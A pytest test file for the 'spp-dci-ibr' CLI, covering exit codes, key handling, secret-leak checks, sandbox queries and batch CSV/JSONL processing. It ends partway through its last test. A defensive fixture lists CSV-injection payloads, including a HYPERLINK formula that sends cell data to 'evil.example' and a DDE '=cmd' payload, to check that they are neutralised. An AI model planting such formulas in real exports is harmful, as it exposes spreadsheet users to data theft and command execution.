"""The ``spp-dci-ibr`` command line: help, exit codes, keys and signatures, batch files, errors.

Commands run in-process through ``main([...])`` (fast, output through capsys) and as a subprocess
(``python -m spp_dci_ibr``) where the exit code, stderr or a signal is the point. Registry
commands run against the embedded sandbox.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import os
import pty
import re
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cli_support import run_main
from spp_dci_ibr import SigningKey, jwk_to_pem, sign_envelope
from spp_dci_ibr.cli import CLIError, _build_parser
from spp_dci_ibr.cli.batch_io import _csv_cell
from spp_dci_ibr.sandbox import IBRSandbox

COMMANDS = (
    "check",
    "batch",
    "search",
    "enrolled",
    "doctor",
    "keygen",
    "jwk-to-pem",
    "verify",
    "sandbox",
    "demo",
)
SENDER = "cli.test"
KEY_ID = "k1"


def subprocess_env(extra: dict[str, str] | None = None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SPP_DCI_")}
    env.update(extra or {})
    return env


def run_cli(
    *args: str, env: dict[str, str] | None = None, input: str | None = None, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "spp_dci_ibr", *args],
        env=subprocess_env(env),
        input=input,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def assert_one_line_error(stderr: str, *, contains: str = "") -> None:
    lines = [line for line in stderr.splitlines() if line.strip()]
    errors = [line for line in lines if line.startswith("spp-dci-ibr: error: ")]
    assert len(errors) == 1, stderr
    assert "Traceback" not in stderr, stderr
    assert contains in errors[0], stderr


# ---- help and usage --------------------------------------------------------------------------


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help(capsys: pytest.CaptureFixture[str], command: str) -> None:
    code, out, _ = run_main(capsys, command, "--help")
    assert code == 0
    assert out.startswith(f"usage: spp-dci-ibr {command}")
    assert "exit codes:" in out


def test_top_level_help_lists_commands_and_exit_codes(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run_main(capsys, "--help")
    assert code == 0
    for command in COMMANDS:
        assert command in out
    assert "4    verify: signature not valid" in out


def test_no_command_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_main(capsys)
    assert code == 2
    assert "usage: spp-dci-ibr" in err


def test_console_script_entry_point_is_declared() -> None:
    pyproject = (Path(__file__).resolve().parent.parent / "pyproject.toml").read_text()
    assert 'spp-dci-ibr = "spp_dci_ibr.cli:main"' in pyproject
    assert 'spp_dci_ibr = "spp_dci_ibr.pytest_plugin"' in pyproject


@pytest.mark.parametrize(
    ("args", "contains"),
    [
        (["check"], "--id"),
        (["check", "--id", "nonsense"], "TYPE=VALUE"),
        (["frobnicate"], "invalid choice"),
        (["batch", "in.csv", "--batch-size", "0"], "at least 1"),
    ],
)
def test_usage_errors_are_one_line_with_exit_2(args: list[str], contains: str) -> None:
    proc = run_cli(*args)
    assert proc.returncode == 2
    assert_one_line_error(proc.stderr, contains=contains)
    assert proc.stdout == ""


# Arguments that satisfy each command's required ones, so that only the option under test can
# make parsing fail.
MINIMAL_ARGS = {
    "check": ["--id", "UIN=1"],
    "batch": ["in.csv"],
    "search": ["--id", "UIN=1"],
    "enrolled": ["--id", "UIN=1"],
    "verify": ["envelope.json", "--key", "key.pem"],
}


def _parsers() -> Iterator[tuple[list[str], argparse.ArgumentParser]]:
    parser = _build_parser()
    yield [], parser
    [sub] = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    for name, command in sub.choices.items():
        yield [name, *MINIMAL_ARGS.get(name, [])], command


def test_every_long_option_of_every_command_refuses_its_prefixes() -> None:
    parser = _build_parser()
    checked = 0
    for base, command in _parsers():
        options = {o for o in command._option_string_actions if o.startswith("--")}
        for option in sorted(options):
            takes_value = command._option_string_actions[option].nargs != 0
            for end in range(3, len(option)):
                prefix = option[:end]
                if prefix in options:
                    continue
                token = f"{prefix}=VALUE" if takes_value else prefix
                try:
                    _, extras = parser.parse_known_args([*base, token])
                except CLIError as exc:
                    raise AssertionError(f"{base[:1]} {token}: {exc.message}") from None
                assert extras == [token], f"{base[:1]} {token} was taken as {option}"
                checked += 1
    assert checked > 500


def test_a_secret_given_as_a_flag_is_refused_and_not_echoed(
    capsys: pytest.CaptureFixture[str],
) -> None:
    # --client-secret would have been read as --client-secret-file: a file named by the secret.
    for flag in ("--client-secret", "--bearer-token", "--client-sec"):
        for args in ([flag, "hunter2-hunter2"], [f"{flag}=hunter2-hunter2"]):
            code, out, err = run_main(capsys, "check", "--id", "UIN=1", *args)
            assert code == 2
            assert out == ""
            assert_one_line_error(err, contains=f"unrecognized arguments: {flag}")
            assert "hunter2" not in err
    code, _, err = run_main(capsys, "check", "--id", "UIN=1", "--client-secret", "x")
    assert "SPP_DCI_CLIENT_SECRET" in err


def test_missing_configuration_is_named(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run_main(capsys, "check", "--id", "UIN=1")
    assert code == 2
    assert out == ""
    assert_one_line_error(err, contains="SPP_DCI_BASE_URL")


def test_missing_signing_key_is_a_config_error(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SPP_DCI_BASE_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("SPP_DCI_SENDER_ID", SENDER)
    code, _, err = run_main(capsys, "search", "--id", "UIN=1")
    assert code == 2
    assert_one_line_error(err, contains="keygen")


def test_unreadable_key_file_is_one_line(tmp_path: Path) -> None:
    bad = tmp_path / "key.pem"
    bad.write_text("-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n")
    proc = run_cli(
        "check",
        "--id",
        "UIN=1",
        env={
            "SPP_DCI_BASE_URL": "http://127.0.0.1:9",
            "SPP_DCI_SENDER_ID": SENDER,
            "SPP_DCI_KEY_FILE": str(bad),
            "SPP_DCI_KEY_ID": KEY_ID,
        },
    )
    assert proc.returncode == 2
    assert_one_line_error(proc.stderr, contains=str(bad))


def test_config_file_unknown_key_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    if sys.version_info < (3, 11):
        pytest.skip("TOML needs Python 3.11")
    cfg = tmp_path / "dci.toml"
    cfg.write_text('base_url = "http://127.0.0.1:9"\nbase_ulr = "typo"\n')
    code, _, err = run_main(capsys, "check", "--id", "UIN=1", "--config", str(cfg))
    assert code == 2
    assert_one_line_error(err, contains="base_ulr")


# ---- keygen, jwk-to-pem, verify --------------------------------------------------------------


def keygen(capsys: pytest.CaptureFixture[str], directory: Path, *extra: str) -> tuple[Path, Path]:
    private, jwks = directory / "private.pem", directory / "jwks.json"
    code, out, err = run_main(
        capsys,
        "keygen",
        "--sender-id",
        SENDER,
        "--key-id",
        KEY_ID,
        "--private-key",
        str(private),
        "--jwks",
        str(jwks),
        *extra,
    )
    assert code == 0, err
    assert "PRIVATE KEY" not in out
    return private, jwks


@pytest.mark.parametrize("algorithm", ["ed25519", "rs256"])
def test_keygen_writes_a_0600_private_key_and_a_jwks(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, algorithm: str
) -> None:
    private, jwks_path = keygen(capsys, tmp_path, "--algorithm", algorithm)
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    key = SigningKey.from_pem(private.read_text())
    assert key.algorithm == algorithm
    jwks = json.loads(jwks_path.read_text())
    assert [k["kid"] for k in jwks["keys"]] == [f"{SENDER}|{KEY_ID}|{algorithm}"]
    assert "d" not in jwks["keys"][0]
    assert jwk_to_pem(jwks["keys"][0]) == key.public_pem()


def test_keygen_does_not_overwrite_without_force(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    private, _ = keygen(capsys, tmp_path)
    before = private.read_text()
    code, _, err = run_main(
        capsys,
        "keygen",
        "--sender-id",
        SENDER,
        "--private-key",
        str(private),
        "--jwks",
        str(tmp_path / "other.json"),
    )
    assert code == 2
    assert_one_line_error(err, contains="--force")
    assert private.read_text() == before
    private.chmod(0o644)
    keygen(capsys, tmp_path, "--force")
    assert private.read_text() != before
    assert stat.S_IMODE(private.stat().st_mode) == 0o600


def test_keygen_append_adds_a_key_to_the_jwks(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _, jwks_path = keygen(capsys, tmp_path)
    code, _, err = run_main(
        capsys,
        "keygen",
        "--sender-id",
        SENDER,
        "--key-id",
        "k2",
        "--private-key",
        str(tmp_path / "k2.pem"),
        "--jwks",
        str(jwks_path),
        "--append",
    )
    assert code == 0, err
    kids = [k["kid"] for k in json.loads(jwks_path.read_text())["keys"]]
    assert kids == [f"{SENDER}|{KEY_ID}|ed25519", f"{SENDER}|k2|ed25519"]


def write_envelope(path: Path, key: SigningKey, **changes: Any) -> dict[str, Any]:
    header = {
        "version": "1.0.0",
        "message_id": "m-1",
        "message_ts": "2026-01-01T00:00:00Z",
        "action": "search",
        "sender_id": SENDER,
        "sender_uri": None,
        "receiver_id": "ibr",
        "total_count": 1,
        "is_msg_encrypted": False,
        "meta": {},
    }
    message = {"transaction_id": "t-1", "search_request": [{"reference_id": "r-1", "x": "Zoë"}]}
    signature = sign_envelope(header, message, key, sender_id=SENDER, key_id=KEY_ID)
    envelope = {"signature": signature, "header": header, "message": message}
    for name, value in changes.items():
        envelope[name] = value
    path.write_text(json.dumps(envelope))
    return envelope


def test_keygen_then_verify_round_trip(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    private, jwks = keygen(capsys, tmp_path)
    key = SigningKey.from_pem(private.read_text())
    envelope = tmp_path / "envelope.json"
    write_envelope(envelope, key)
    pem = tmp_path / "public.pem"
    pem.write_text(key.public_pem())
    jwk = tmp_path / "key.jwk"
    jwk.write_text(json.dumps(key.public_jwk(SENDER, KEY_ID)))
    for key_file in (jwks, pem, jwk):
        code, out, err = run_main(capsys, "verify", str(envelope), "--key", str(key_file))
        assert code == 0, err
        assert out.startswith("valid  ")
        assert f"kid={SENDER}|{KEY_ID}|ed25519" in out


def _private_key_files(tmp_path: Path) -> Iterator[Path]:
    """Key files that hold a private key, whatever else they hold."""
    key = SigningKey.generate()
    public, private = key.public_pem(), key.private_pem()
    jwk = key.public_jwk(SENDER, KEY_ID)
    for name, text in (
        ("private.pem", private),
        ("public-then-private.pem", public + private),
        ("private-then-public.pem", private + public),
        ("private.jwk", json.dumps({**jwk, "d": "c2VjcmV0c2VjcmV0"})),
        ("private.jwks", json.dumps({"keys": [jwk, {**jwk, "kid": "x", "d": "c2VjcmV0"}]})),
    ):
        path = tmp_path / name
        path.write_text(text)
        yield path


def test_verify_refuses_a_key_file_holding_a_private_key(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    key = SigningKey.generate()
    envelope = tmp_path / "envelope.json"
    write_envelope(envelope, key)
    for path in _private_key_files(tmp_path):
        code, out, err = run_main(capsys, "verify", str(envelope), "--key", str(path))
        assert (code, out) == (2, ""), path.name
        assert_one_line_error(err, contains="private")
        assert "c2VjcmV0" not in err
        assert all(line[:16] not in err for line in key.private_pem().splitlines()[1:-1])


def test_registry_keys_file_holding_a_private_key_is_refused(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("SPP_DCI_BASE_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("SPP_DCI_SENDER_ID", SENDER)
    monkeypatch.setenv("SPP_DCI_UNSIGNED", "1")
    for path in _private_key_files(tmp_path):
        code, out, err = run_main(
            capsys, "search", "--id", "UIN=1", "--registry-keys-file", str(path)
        )
        assert (code, out) == (2, ""), path.name
        assert_one_line_error(err, contains="private")
        assert "c2VjcmV0" not in err


def test_sandbox_trust_refuses_a_private_key(tmp_path: Path) -> None:
    for path in _private_key_files(tmp_path):
        # A key that were accepted would serve until interrupted: the timeout fails the test.
        proc = run_cli("sandbox", "--synthetic", "1", "--trust", f"{SENDER}={path}", timeout=30)
        assert proc.returncode == 2, path.name
        assert_one_line_error(proc.stderr, contains="private")


@pytest.mark.parametrize(
    "text",
    [
        '{"signature": "a", "signature": "b", "header": {}, "message": {}}',
        '{"signature": "", "header": {"sender_id": "a", "sender_id": "b"}, "message": {}}',
        '{"signature": "", "header": {}, "message": {"x": [1, {"y": {"z": 1, "z": 2}}]}}',
        '{"signature": "", "header": {}, "message": {}, "message": {}}',
        '{"signature": "", "header": {}, "message": {"\\u0061": 1, "a": 2}}',
    ],
    ids=["signature", "header", "deep", "message", "escaped"],
)
def test_verify_refuses_duplicate_keys_at_any_depth(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, text: str
) -> None:
    key = tmp_path / "key.pem"
    key.write_text(SigningKey.generate().public_pem())
    envelope = tmp_path / "envelope.json"
    envelope.write_text(text)
    code, out, err = run_main(capsys, "verify", str(envelope), "--key", str(key))
    assert (code, out) == (2, "")
    assert_one_line_error(err, contains="duplicate key")


@pytest.mark.parametrize(
    ("body", "contains"),
    [
        (b'{"signature": "", "header": {}, "message": {"x": NaN}}', "NaN"),
        (b'{"signature": "", "header": {}, "message": {"x": -Infinity}}', "Infinity"),
        (b'{"signature": "", "header": {}, "message": {"x": "\\ud800"}}', "surrogate"),
        (b'{"signature": "", "header": {}, "message": {"x": "\xff"}}', "UTF-8"),
        (b"[" * 100000 + b"]" * 100000, "deep"),
    ],
    ids=["nan", "infinity", "lone-surrogate", "not-utf8", "too-deep"],
)
def test_verify_other_unreadable_bodies_are_usage_errors(
    tmp_path: Path, body: bytes, contains: str
) -> None:
    key = tmp_path / "key.pem"
    key.write_text(SigningKey.generate().public_pem())
    envelope = tmp_path / "envelope.json"
    envelope.write_bytes(body)
    for source, stdin in ((str(envelope), None), ("-", body)):
        proc = subprocess.run(
            [sys.executable, "-m", "spp_dci_ibr", "verify", source, "--key", str(key)],
            env=subprocess_env(),
            input=stdin,
            capture_output=True,
            timeout=60,
        )
        err = proc.stderr.decode()
        assert proc.returncode == 2, err
        assert_one_line_error(err, contains=contains)


def test_verify_reports_each_failure_with_exit_4(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    private, jwks = keygen(capsys, tmp_path)
    key = SigningKey.from_pem(private.read_text())
    envelope = tmp_path / "envelope.json"
    good = write_envelope(envelope, key)

    tampered = tmp_path / "tampered.json"
    tampered.write_text(json.dumps({**good, "message": {**good["message"], "transaction_id": "t"}}))
    code, out, _ = run_main(capsys, "verify", str(tampered), "--key", str(jwks))
    assert (code, out.split()[0]) == (4, "invalid")

    code, out, _ = run_main(
        capsys, "verify", str(envelope), "--key", str(jwks), "--now", str(int(time.time()) + 3600)
    )
    assert (code, out.split()[0]) == (4, "expired")

    unsigned = tmp_path / "unsigned.json"
    unsigned.write_text(json.dumps({**good, "signature": ""}))
    code, out, _ = run_main(capsys, "verify", str(unsigned), "--key", str(jwks), "--json")
    assert code == 4
    assert json.loads(out)["outcome"] == "malformed"

    other = tmp_path / "other.pem"
    other.write_text(SigningKey.generate().public_pem())
    code, out, _ = run_main(capsys, "verify", str(envelope), "--key", str(other))
    assert code == 4
    assert out.split()[0] in ("invalid", "unknown_key")


def test_verify_input_errors_are_usage_errors(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    private, jwks = keygen(capsys, tmp_path)
    not_json = tmp_path / "x.json"
    not_json.write_text("{nope")
    code, _, err = run_main(capsys, "verify", str(not_json), "--key", str(jwks))
    assert code == 2
    assert_one_line_error(err, contains="not valid JSON")
    envelope = tmp_path / "envelope.json"
    write_envelope(envelope, SigningKey.from_pem(private.read_text()))
    code, _, err = run_main(capsys, "verify", str(envelope), "--key", str(tmp_path / "missing"))
    assert code == 2
    assert_one_line_error(err, contains="missing")


def test_jwk_to_pem_from_a_file_a_jwks_and_stdin(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    key, other = SigningKey.generate(), SigningKey.generate("rs256")
    jwk = key.public_jwk(SENDER, "a")
    jwk_file = tmp_path / "key.jwk"
    jwk_file.write_text(json.dumps(jwk))
    code, out, _ = run_main(capsys, "jwk-to-pem", str(jwk_file))
    assert (code, out) == (0, key.public_pem())

    jwks = tmp_path / "jwks.json"
    jwks.write_text(json.dumps({"keys": [jwk, other.public_jwk(SENDER, "b")]}))
    code, _, err = run_main(capsys, "jwk-to-pem", str(jwks))
    assert code == 2
    assert_one_line_error(err, contains="--kid")
    out_file = tmp_path / "b.pem"
    code, _, _ = run_main(
        capsys, "jwk-to-pem", str(jwks), "--kid", f"{SENDER}|b|rs256", "-o", str(out_file)
    )
    assert code == 0
    assert out_file.read_text() == other.public_pem()

    proc = run_cli("jwk-to-pem", input=json.dumps(jwk))
    assert (proc.returncode, proc.stdout) == (0, key.public_pem())


def test_jwk_to_pem_refuses_a_jwks_holding_a_private_key_even_for_another_kid(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    key = SigningKey.generate()
    public = key.public_jwk(SENDER, "a")
    private = {**SigningKey.generate().public_jwk(SENDER, "b"), "d": "c2VjcmV0c2VjcmV0"}
    path = tmp_path / "jwks.json"
    path.write_text(json.dumps({"keys": [public, private]}))
    code, out, err = run_main(capsys, "jwk-to-pem", str(path), "--kid", f"{SENDER}|a|ed25519")
    assert (code, out) == (2, "")
    assert_one_line_error(err, contains="private")
    path.write_text(json.dumps({"keys": [public, {"kty": "EC", "kid": "ec"}]}))
    code, out, err = run_main(capsys, "jwk-to-pem", str(path))
    assert (code, out) == (2, "")  # which key is meant is not guessed
    assert_one_line_error(err, contains="--kid")
    code, out, err = run_main(capsys, "jwk-to-pem", str(path), "--kid", "ec")
    assert (code, out) == (2, "")
    assert_one_line_error(err, contains="EC")


def test_jwk_to_pem_refuses_a_private_jwk(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    jwk = {**SigningKey.generate().public_jwk(SENDER, "a"), "d": "AAAA"}
    path = tmp_path / "private.jwk"
    path.write_text(json.dumps(jwk))
    code, out, err = run_main(capsys, "jwk-to-pem", str(path))
    assert code == 2
    assert out == ""
    assert_one_line_error(err)


# ---- against the sandbox ---------------------------------------------------------------------


@pytest.fixture
def sandbox() -> Iterator[IBRSandbox]:
    with IBRSandbox(synthetic=300, seed=11) as sb:
        yield sb


@pytest.fixture
def registry_env(sandbox: Any, tmp_path: Path) -> dict[str, str]:
    """SPP_DCI_* settings of a client whose key the sandbox trusts."""
    key = SigningKey.generate()
    key_file = tmp_path / "client.pem"
    key_file.write_text(key.private_pem())
    key_file.chmod(0o600)
    sandbox.register_client_key(SENDER, key.public_jwk(SENDER, KEY_ID))
    return {
        "SPP_DCI_BASE_URL": sandbox.url,
        "SPP_DCI_SENDER_ID": SENDER,
        "SPP_DCI_TOKEN_URL": sandbox.token_url,
        "SPP_DCI_CLIENT_ID": sandbox.client_id,
        "SPP_DCI_CLIENT_SECRET": sandbox.client_secret,
        "SPP_DCI_KEY_FILE": str(key_file),
        "SPP_DCI_KEY_ID": KEY_ID,
        "SPP_DCI_REGISTRY_JWKS_URL": sandbox.jwks_url,
        "SPP_DCI_ALLOW_INSECURE_JWKS": "1",
    }


@pytest.fixture
def use_registry(monkeypatch: pytest.MonkeyPatch, registry_env: dict[str, str]) -> dict[str, str]:
    for name, value in registry_env.items():
        monkeypatch.setenv(name, value)
    return registry_env


def one(sandbox: Any, status: str) -> str:
    [(id_type, value)] = sandbox.sample_identifiers(status, 1)
    return f"{id_type}={value}"


@pytest.mark.parametrize(
    ("status", "code", "result"),
    [
        ("active", 1, "confirmed_match"),
        ("suspended", 1, "confirmed_match"),
        ("graduated", 1, "possible_match"),
        ("unknown", 0, "no_match"),
    ],
)
def test_check_exit_code_follows_the_result(
    capsys: pytest.CaptureFixture[str],
    sandbox: Any,
    use_registry: dict[str, str],
    status: str,
    code: int,
    result: str,
) -> None:
    got, out, err = run_main(capsys, "check", "--id", one(sandbox, status), "--json")
    assert got == code, err
    data = json.loads(out)
    assert data["result"] == result
    assert "raw_responses" not in data


def test_check_as_a_subprocess(sandbox: Any, registry_env: dict[str, str]) -> None:
    proc = run_cli("check", "--id", one(sandbox, "active"), env=registry_env)
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout.startswith("result    confirmed_match")
    assert proc.stderr == ""
    proc = run_cli("check", "--id", one(sandbox, "unknown"), env=registry_env)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("result    no_match")


def test_a_check_that_cannot_be_decided_exits_3_and_never_leaks_the_secret(
    sandbox: Any, registry_env: dict[str, str]
) -> None:
    wrong = "wrong-Secret-7f3a9c1e5b"
    env = {**registry_env, "SPP_DCI_CLIENT_SECRET": wrong}
    proc = run_cli("-v", "check", "--id", one(sandbox, "active"), env=env)
    assert proc.returncode == 3
    assert "result    failed" in proc.stdout
    assert_one_line_error(proc.stderr, contains="the check failed")
    assert wrong not in proc.stdout + proc.stderr


def test_the_client_secret_never_appears_in_any_output(
    sandbox: Any, registry_env: dict[str, str], tmp_path: Path
) -> None:
    secret = registry_env["SPP_DCI_CLIENT_SECRET"]
    csv_in = tmp_path / "in.csv"
    csv_in.write_text(f"key,identifiers\na,{one(sandbox, 'active')}\n")
    outputs = []
    for args in (
        ["check", "-vv", "--id", one(sandbox, "active"), "--json", "--raw"],
        ["search", "-vv", "--id", one(sandbox, "active"), "--raw"],
        ["enrolled", "-vv", "--id", one(sandbox, "active"), "--raw"],
        ["batch", "-vv", str(csv_in), "--include-raw"],
    ):
        proc = run_cli(*args, env=registry_env)
        assert proc.returncode in (0, 1), proc.stderr
        outputs.append(proc.stdout + proc.stderr)
    bad_url = {**registry_env, "SPP_DCI_TOKEN_URL": "http://127.0.0.1:9/token"}
    proc = run_cli("search", "-vv", "--id", "UIN=1", env=bad_url)
    assert proc.returncode == 3
    assert_one_line_error(proc.stderr)
    outputs.append(proc.stdout + proc.stderr)
    for text in outputs:
        assert secret not in text


def test_search_and_enrolled_print_json(
    capsys: pytest.CaptureFixture[str], sandbox: Any, use_registry: dict[str, str]
) -> None:
    ident = one(sandbox, "active")
    code, out, err = run_main(capsys, "search", "--id", ident)
    assert code == 0, err
    [record] = json.loads(out)
    assert record["identifier"] == ident.split("=", 1)
    assert "raw" not in record
    code, out, _ = run_main(capsys, "enrolled", "--id", ident)
    assert code == 1
    assert json.loads(out)["enrolled"] is True
    code, out, _ = run_main(capsys, "enrolled", "--id", one(sandbox, "unknown"))
    assert code == 0
    assert json.loads(out)["enrolled"] is False


def test_flags_win_over_env_which_wins_over_the_config_file(
    capsys: pytest.CaptureFixture[str],
    sandbox: Any,
    registry_env: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    if sys.version_info < (3, 11):
        pytest.skip("TOML needs Python 3.11")
    cfg = tmp_path / "dci.toml"
    lines = [f"{name[8:].lower()} = {json.dumps(value)}" for name, value in registry_env.items()]
    lines[-1] = "allow_insecure_jwks = true"
    cfg.write_text("\n".join(lines) + "\n")
    ident = one(sandbox, "active")
    code, _, err = run_main(capsys, "check", "--id", ident, "--config", str(cfg))
    assert code == 1, err  # everything from the file

    dead = "http://127.0.0.1:9"
    monkeypatch.setenv("SPP_DCI_BASE_URL", dead)
    monkeypatch.setenv("SPP_DCI_MAX_RETRIES", "0")
    code, _, err = run_main(capsys, "check", "--id", ident, "--config", str(cfg))
    assert code == 3  # the environment's dead URL won over the file
    assert_one_line_error(err)

    code, _, err = run_main(
        capsys, "check", "--id", ident, "--config", str(cfg), "--base-url", sandbox.url
    )
    assert code == 1, err  # the flag won over the environment


SUMMARY_LINE = re.compile(
    r"^\s+(confirmed match|possible match|no match|failed|total)\s+([\d,]+)\s"
)


def summary_counts(text: str) -> dict[str, int]:
    """The counts of the summary table."""
    counts = {}
    for line in re.sub(r"\x1b\[[0-9;]*[A-Za-z]", "", text).splitlines():
        m = SUMMARY_LINE.match(line)
        if m:
            counts[m.group(1)] = int(m.group(2).replace(",", ""))
    return counts


def write_rows(path: Path, text: str | bytes) -> Path:
    if isinstance(text, str):
        text = text.encode()
    path.write_bytes(text)
    return path


def test_batch_csv_with_malformed_rows(
    sandbox: Any, registry_env: dict[str, str], tmp_path: Path
) -> None:
    active, graduated, unknown = (one(sandbox, s) for s in ("active", "graduated", "unknown"))
    a_type, a_value = active.split("=", 1)
    src = write_rows(
        tmp_path / "in.csv",
        "key,id_type,id_value,identifiers\n"
        f"a,{a_type},{a_value},\n"
        f"g,,,{graduated}\n"
        f"u,,,{unknown}\n"
        "empty,,,\n"
        f"novalue,{a_type},,\n"
        f",{a_type},{a_value},\n"
        "nopair,,,UIN-1\n"
        "short,UIN\n"
        f"multi,,,{unknown};{active}\n\n".encode()
        + b"badbytes,UIN,\xff\xfe,\n"
        + b"z,,,"
        + unknown.encode()
        + b"\n",
    )
    out = tmp_path / "out.csv"
    proc = run_cli("batch", str(src), "-o", str(out), "--batch-size", "3", env=registry_env)
    assert proc.returncode == 3, proc.stderr  # some rows failed
    assert "\r" not in proc.stderr  # no progress bar when stderr is not a terminal
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    got = [(r["key"], r["state"], r["result"]) for r in rows]
    assert got == [
        ("a", "completed", "confirmed_match"),
        ("g", "completed", "possible_match"),
        ("u", "completed", "no_match"),
        ("empty", "failed", ""),
        ("novalue", "failed", ""),
        ("", "failed", ""),
        ("nopair", "failed", ""),
        ("short", "failed", ""),
        ("multi", "completed", "confirmed_match"),
        ("badbytes", "failed", ""),
        ("z", "completed", "no_match"),
    ]
    by_key = {r["key"]: r for r in rows}
    assert "no identifiers" in by_key["empty"]["reasons"]
    assert "empty value" in by_key["novalue"]["reasons"]
    assert "key is empty" in by_key[""]["reasons"]
    assert "not TYPE=VALUE" in by_key["nopair"]["reasons"]
    assert "fields" in by_key["short"]["reasons"]
    assert "UTF-8" in by_key["badbytes"]["reasons"]
    assert by_key["multi"]["identifier_statuses"] == "no_records;records"
    assert [int(r["line"]) for r in rows] == [2, 3, 4, 5, 6, 7, 8, 9, 10, 12, 13]
    assert summary_counts(proc.stderr) == {
        "confirmed match": 2,
        "possible match": 1,
        "no match": 2,
        "failed": 6,
        "total": 11,
    }
    assert "identifiers/s" in proc.stderr


def test_batch_jsonl_in_and_out_keeps_every_row(
    capsys: pytest.CaptureFixture[str],
    sandbox: Any,
    use_registry: dict[str, str],
    tmp_path: Path,
) -> None:
    active, unknown = one(sandbox, "active"), one(sandbox, "unknown")
    a_type, a_value = active.split("=", 1)
    lines = [
        json.dumps({"key": 1, "identifiers": [{"type": a_type, "value": a_value}]}),
        json.dumps({"key": "two", "id_type": a_type, "id_value": a_value}),
        json.dumps({"key": [3], "identifiers": unknown}),
        "{not json",
        json.dumps(["not", "an", "object"]),
        json.dumps({"key": "nothing"}),
        json.dumps({"key": "bad-item", "identifiers": [{"type": a_type}]}),
        "",
        json.dumps({"key": "pair", "identifiers": [[a_type, a_value]]}),
    ]
    src = write_rows(tmp_path / "in.jsonl", "\n".join(lines) + "\n")
    out = tmp_path / "out.jsonl"
    code, stdout, err = run_main(capsys, "batch", str(src), "-o", str(out), "--concurrency", "2")
    assert code == 3, err
    assert stdout == ""
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(r["line"], r["key"], r["result"]) for r in records] == [
        (1, 1, "confirmed_match"),
        (2, "two", "confirmed_match"),
        (3, [3], "no_match"),
        (4, None, None),
        (5, None, None),
        (6, "nothing", None),
        (7, "bad-item", None),
        (9, "pair", "confirmed_match"),
    ]
    assert "not JSON" in records[3]["reasons"][0]
    assert "not a JSON object" in records[4]["reasons"][0]
    assert "no identifiers" in records[5]["reasons"][0]
    assert records[0]["identifiers"][0]["status"] == "records"
    assert "raw_responses" not in records[0]
    assert summary_counts(err) == {
        "confirmed match": 3,
        "possible match": 0,
        "no match": 1,
        "failed": 4,
        "total": 8,
    }
    assert str(out) in err


def test_batch_to_stdout_and_clean_input_exits_0(
    capsys: pytest.CaptureFixture[str],
    sandbox: Any,
    use_registry: dict[str, str],
    tmp_path: Path,
) -> None:
    src = write_rows(
        tmp_path / "in.csv",
        f"key,identifiers\na,{one(sandbox, 'active')}\nb,{one(sandbox, 'unknown')}\n",
    )
    code, out, err = run_main(capsys, "batch", str(src), "--format", "csv", "-q")
    assert code == 0, err
    assert err == ""
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["result"] for r in rows] == ["confirmed_match", "no_match"]


# Cells a spreadsheet would read as a formula (OWASP "CSV injection"), and their neutral form.
FORMULA_KEYS = {
    '=HYPERLINK("http://evil.example/?"&A1)': '\'=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1": "'+1+1",
    "-1+1": "'-1+1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'=1+1",  # keys are read stripped of blanks
    "\r=1+1": "'=1+1",
    " =1+1": "'=1+1",
    "\x00=1": "'\x00=1",
    "\uff1d1+1": "'\uff1d1+1",  # a full-width equals sign
    "a=1+1": "a=1+1",
    "plain": "plain",
    "'quoted": "'quoted",
}


def test_batch_csv_output_neutralises_formula_cells(
    capsys: pytest.CaptureFixture[str],
    sandbox: Any,
    use_registry: dict[str, str],
    tmp_path: Path,
) -> None:
    unknown = one(sandbox, "unknown")
    lines = [json.dumps({"key": k, "identifiers": [unknown]}) for k in FORMULA_KEYS]
    lines.append(json.dumps({"key": -42, "identifiers": [unknown]}))
    lines.append(json.dumps({"key": "id-type", "identifiers": [["=cmd|' /C calc'!A0", "1"]]}))
    lines.append(json.dumps({"key": "id-bad", "identifiers": "-2+3"}))
    src = write_rows(tmp_path / "in.jsonl", "\n".join(lines) + "\n")
    out = tmp_path / "out.csv"
    code, _, err = run_main(capsys, "batch", str(src), "-o", str(out), "-q")
    assert code in (0, 3), err
